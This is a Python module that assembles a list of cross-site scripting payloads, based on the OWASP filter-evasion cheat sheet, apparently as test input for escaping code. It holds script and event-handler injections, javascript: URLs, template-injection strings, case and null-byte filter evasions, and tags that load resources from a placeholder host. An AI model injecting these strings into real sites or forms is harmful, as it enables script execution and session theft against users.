"""Ways out of text into markup, attributes, scripts, styles, addresses and templates; ``{word}`` tells where from.

Written after the kinds that https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html lists.
"""

from __future__ import annotations

_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--></p>", "]]>", "\x0c>", "&quot;>")
_TAGS = (
    "<script>{word}()</script>",
    "<img src=x onerror={word}()>",
    "<svg onload={word}()>",
    "<iframe srcdoc={word}>",
    "<body onpageshow={word}()>",
    "<details open ontoggle={word}()>",
    "<input autofocus onfocus={word}()>",
    "<video><source onerror={word}()></video>",
    "<a href=javascript:{word}()>x</a>",
    "<form action=//{word}><button>",
    "<meta http-equiv=refresh content=0;{word}>",
)
_OTHERS = (
    '" onmouseover="{word}()" x="',
    "' onclick='{word}()' x='",
    '" autofocus onfocus="{word}()',
    "<{word}/onmouseover=1>",
    "<<b>b onclick={word}>",
    "&lt;script&gt;{word}<b>",
    "<style>@import'{word}'</style>",
    "<link rel=stylesheet href=//{word}>",
    "<base href=//{word}>",
    "<object data=//{word}>",
    "<embed src=//{word}>",
    "<math><mi xlink:href=data:x,{word}>",
    "<b hx-get={word}>",
    "<b hx-on:click={word}()>",
    "<b data-hx-trigger=load hx-get=/{word}>",
    "{{ {word} }}<b>{% debug %}",
    "<b>${{word}}`",
    "`<b {word}`",
    "<ScRiPt>{word}</sCrIpT>",
    "<scr\x00ipt>{word}</scr\x00ipt>",
    "<a href='jav&#x09;ascript:{word}()'>",
    "<p style=background:url(//{word})>",
)
PAYLOADS = (*(way_out + tag for way_out in _BREAKS for tag in _TAGS), *_OTHERS)
# All of them as one text, as far as a database takes it.
ALL = "".join(PAYLOADS).replace("\x00", "")
